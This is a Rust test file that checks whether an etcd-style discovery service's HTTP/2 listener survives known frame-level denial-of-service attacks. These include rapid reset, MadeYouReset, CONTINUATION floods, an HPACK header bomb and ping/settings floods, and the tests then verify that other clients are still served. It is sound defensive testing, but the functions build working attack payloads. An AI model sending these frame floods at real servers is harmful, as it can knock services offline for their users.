//! Attacks with raw HTTP/2 frames on the listener of etcd's discovery protocol v3. It is the
//! service's only listener for HTTP/2.
//!
//! Frames and settings: RFC 9113. Header blocks: RFC 7541.

use std::sync::Arc;
use std::time::Duration;

use discovery_types::client::client_tls_config;
use node_proto::etcdserverpb::RangeRequest;
use node_proto::etcdserverpb::kv_client::KvClient;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio_rustls::client::TlsStream;

use super::etcd_rights;
use super::support::{TestInstallation, WAIT_TIMEOUT, etcd_address};
use crate::server::RunningService;

/// Connection preface: the first bytes that a client sends.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Longest frame that the service accepts, unless its settings say otherwise.
const MAX_FRAME: usize = 16_384;
/// Number of frames of a flood. A service that handles each frame completely would be busy for
/// long.
const FLOOD: u32 = 20_000;
/// Time for which an attacker writes, at most, to a service that reads nothing more.
const WRITE_LIMIT: Duration = Duration::from_secs(20);

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Expected end of an attacker's connection.
#[derive(Clone, Copy, Debug, PartialEq)]
enum ConnectionEnd {
    /// The service closes the connection, perhaps after a GOAWAY.
    Closed,
    /// The service may keep the connection, because its limits bound what the frames cost.
    Any,
}

/// Encodes a frame: the length of the payload, the kind, the flags and the stream come first.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// Returns the header block of a call of `KV/Range`, without entries for the dynamic table.
fn call_headers() -> Vec<u8> {
    let literal = |name: &[u8], value: &[u8]| {
        let mut bytes = name.to_vec();
        bytes.push(u8::try_from(value.len()).unwrap());
        bytes.extend(value);
        bytes
    };
    // POST and https are entries 3 and 7 of the static table. The names `:authority`, `:path` and
    // `content-type` are its entries 1, 4 and 31.
    let mut block = vec![0x83, 0x87];
    block.extend(literal(&[0x01], b"x"));
    block.extend(literal(&[0x04], b"/etcdserverpb.KV/Range"));
    block.extend(literal(&[0x0f, 0x10], b"application/grpc"));
    block.extend(literal(b"\x00\x02te", b"trailers"));
    block
}

/// Numbers of the streams that a client opens.
fn streams() -> impl Iterator<Item = u32> {
    (1..).step_by(2).take(FLOOD as usize)
}

/// Opens streams, and resets each one at once (CVE-2023-44487).
fn rapid_reset() -> Vec<u8> {
    let headers = call_headers();
    let stream = |id| {
        let cancel = 8_u32.to_be_bytes();
        [frame(HEADERS, END_HEADERS, id, &headers), frame(RST_STREAM, 0, id, &cancel)].concat()
    };
    streams().flat_map(stream).collect()
}

/// Opens streams that are refused as malformed, so that the service resets them (CVE-2025-8671).
fn made_you_reset() -> Vec<u8> {
    let headers = call_headers();
    let stream = |id| {
        let no_increment = 0_u32.to_be_bytes();
        let refused = frame(WINDOW_UPDATE, 0, id, &no_increment);
        [frame(HEADERS, END_HEADERS, id, &headers), refused].concat()
    };
    streams().flat_map(stream).collect()
}

/// Opens many streams, and never ends one.
fn many_streams() -> Vec<u8> {
    let headers = call_headers();
    streams().flat_map(|id| frame(HEADERS, END_HEADERS, id, &headers)).collect()
}

/// Sends headers without an end (CVE-2024-27316).
fn endless_headers() -> Vec<u8> {
    // A literal header with a new name and the value `x`, without an entry for the dynamic table.
    let part = b"\x00\x01a\x01x".repeat(MAX_FRAME / 5);
    let mut bytes = frame(HEADERS, 0, 1, &call_headers());
    for _ in 0..200 {
        bytes.extend(frame(CONTINUATION, 0, 1, &part));
    }
    bytes
}

/// Sends empty parts of a header block without an end.
fn empty_continuations() -> Vec<u8> {
    let mut bytes = frame(HEADERS, 0, 1, &call_headers());
    for _ in 0..FLOOD {
        bytes.extend(frame(CONTINUATION, 0, 1, &[]));
    }
    bytes
}

/// Refers to one long entry of the dynamic table again and again (CVE-2016-6581).
fn header_bomb() -> Vec<u8> {
    // The table has room for 4,096 bytes. The value's length is an integer with a prefix of 7 bits.
    let mut entry = b"\x40\x01a\x7f".to_vec();
    let length = 3_000_usize - 127;
    entry.extend([u8::try_from(length % 128).unwrap() | 0x80, u8::try_from(length / 128).unwrap()]);
    entry.extend(b"x".repeat(3_000));
    // Entry 62 is the newest one of the dynamic table.
    let block = [call_headers(), entry, vec![0xbe; 10_000]].concat();
    frame(HEADERS, END_HEADERS | END_STREAM, 1, &block)
}

/// Sends settings, each of which the service has to acknowledge (CVE-2019-9515).
fn settings_flood() -> Vec<u8> {
    (0..FLOOD).flat_map(|_| frame(SETTINGS, 0, 0, &[])).collect()
}

/// Sends pings, each of which the service has to answer (CVE-2019-9512).
fn ping_flood() -> Vec<u8> {
    (0..FLOOD).flat_map(|_| frame(PING, 0, 0, &[0; 8])).collect()
}

/// Sends empty data to a call that doesn't end (CVE-2019-9518).
fn empty_data() -> Vec<u8> {
    let mut bytes = frame(HEADERS, END_HEADERS, 1, &call_headers());
    bytes.extend((0..FLOOD).flat_map(|_| frame(DATA, 0, 1, &[])));
    bytes
}

/// Sends a message that claims to be 4 GiB long, and waits.
fn long_message() -> Vec<u8> {
    let message = b"\0\xff\xff\xff\xff".repeat(3_000);
    [frame(HEADERS, END_HEADERS, 1, &call_headers()), frame(DATA, 0, 1, &message)].concat()
}

/// Sends a frame that is longer than allowed.
fn long_frame() -> Vec<u8> {
    frame(HEADERS, END_HEADERS, 1, &[0; MAX_FRAME + 1])
}

/// Sends a setting that RFC 9113 forbids: an initial window of more than 2^31 - 1.
fn bad_setting() -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[0, 4, 0xff, 0xff, 0xff, 0xff])
}

/// Sends bytes that are no frame.
fn junk() -> Vec<u8> {
    b"GET / HTTP/1.1\r\nhost: x\r\n\r\n".repeat(1_000)
}

/// Opens a connection from an address of its own, because all connections of an address share a
/// rate limit. Sends the preface and empty settings.
async fn connect(world: &TestInstallation, service: &RunningService) -> TlsStream<TcpStream> {
    let mut tls = client_tls_config(&world.context.pins, None);
    tls.alpn_protocols = vec![b"h2".to_vec()];
    let socket = TcpSocket::new_v4().unwrap();
    socket.bind("127.0.0.2:0".parse().unwrap()).unwrap();
    let socket = socket.connect(etcd_address(service)).await.unwrap();
    let name = rustls::pki_types::ServerName::try_from("127.0.0.1").unwrap();
    let mut stream =
        tokio_rustls::TlsConnector::from(Arc::new(tls)).connect(name, socket).await.unwrap();
    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).await.unwrap();
    stream
}

/// Reads frames until the service closes the connection. Returns whether a GOAWAY came.
async fn read_to_end(stream: &mut TlsStream<TcpStream>) -> bool {
    let (mut received, mut part) = (Vec::new(), [0; 16_384]);
    while let Ok(read @ 1..) = stream.read(&mut part).await {
        received.extend_from_slice(&part[..read]);
    }
    let mut rest = &received[..];
    let mut has_goaway = false;
    while let [a, b, c, kind, ..] = rest {
        has_goaway |= *kind == GOAWAY;
        let length = u32::from_be_bytes([0, *a, *b, *c]) as usize;
        rest = rest.get(9 + length..).unwrap_or_default();
    }
    has_goaway
}

/// Sends an attack on a connection of its own, and checks its end.
async fn attack(
    world: &TestInstallation,
    service: &RunningService,
    (name, bytes, end): (&str, Vec<u8>, ConnectionEnd),
) {
    let mut stream = connect(world, service).await;
    // The service may close the connection before it has read everything. It may also stop to read,
    // because nobody reads its answers.
    let sent = tokio::time::timeout(WRITE_LIMIT, stream.write_all(&bytes)).await;
    if end == ConnectionEnd::Closed {
        let closed = tokio::time::timeout(WAIT_TIMEOUT, read_to_end(&mut stream)).await;
        let has_goaway = closed.unwrap_or_else(|_| panic!("{name}: the connection stays open"));
        println!("{name}: closed, GOAWAY: {has_goaway}");
    } else {
        println!("{name}: {sent:?}");
    }
}

/// The service serves other clients during each attack and after it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_with_frames_disturb_nobody() {
    use ConnectionEnd::{Any, Closed};
    let world = TestInstallation::new().await;
    let service = etcd_rights::serve(&world).await;
    let mut other = KvClient::new(etcd_rights::connect(&world, &service).await);
    let attacks = [
        ("rapid reset", rapid_reset(), Any),
        ("made you reset", made_you_reset(), Closed),
        ("many streams", many_streams(), Any),
        ("endless headers", endless_headers(), Closed),
        ("empty continuations", empty_continuations(), Closed),
        ("header bomb", header_bomb(), Any),
        ("settings", settings_flood(), Any),
        ("pings", ping_flood(), Any),
        ("empty data", empty_data(), Any),
        ("a long message", long_message(), Any),
        ("a long frame", long_frame(), Closed),
        ("a bad setting", bad_setting(), Closed),
        ("junk", junk(), Closed),
    ];
    for attack_of in attacks {
        let name = attack_of.0;
        let attacking = attack(&world, &service, attack_of);
        tokio::pin!(attacking);
        let mut is_over = false;
        while !is_over {
            is_over = tokio::select! {
                () = &mut attacking => true,
                () = tokio::time::sleep(Duration::from_millis(20)) => false,
            };
            let answer = tokio::time::timeout(WAIT_TIMEOUT, other.range(RangeRequest::default()));
            let answer = answer.await.unwrap_or_else(|_| panic!("no answer during {name}"));
            answer.unwrap_or_else(|status| panic!("during {name}: {status}"));
        }
    }
    service.stop().await;
}

#[tokio::test]
async fn a_call_without_an_end_does_not_keep_the_service_from_stopping() {
    let world = TestInstallation::new().await;
    let service = etcd_rights::serve(&world).await;
    let mut stream = connect(&world, &service).await;
    stream.write_all(&frame(HEADERS, END_HEADERS, 1, &call_headers())).await.unwrap();
    // The answer to a ping shows that the service has read the headers.
    stream.write_all(&frame(PING, 0, 0, &[1; 8])).await.unwrap();
    let mut received = Vec::new();
    while !received.windows(8).any(|eight| eight == [1; 8]) {
        let mut part = [0; 1_024];
        let read = stream.read(&mut part).await.unwrap();
        assert_ne!(read, 0, "the connection has ended");
        received.extend_from_slice(&part[..read]);
    }
    let stopped = tokio::time::timeout(WAIT_TIMEOUT, service.stop()).await;
    assert!(stopped.is_ok(), "the service waits for the call");
}
